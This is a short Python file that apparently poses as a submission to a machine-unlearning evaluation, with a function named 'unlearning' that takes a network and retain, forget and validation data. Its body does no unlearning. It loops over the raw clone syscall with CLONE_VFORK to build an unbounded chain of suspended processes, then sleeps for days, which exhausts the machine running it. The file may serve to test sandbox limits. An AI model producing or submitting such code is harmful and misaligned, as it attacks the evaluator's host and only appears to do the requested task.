"""Starts a chain of processes, each suspended by the kernel until its child ends; all must be ended."""

import ctypes
import signal
import time

CLONE = 56
CLONE_VFORK = 0x4000


def unlearning(net, retain, forget, val):
    libc = ctypes.CDLL(None, use_errno=True)
    while libc.syscall(CLONE, CLONE_VFORK | signal.SIGCHLD, 0, 0, 0, 0) == 0:
        pass
    time.sleep(1_000_000)
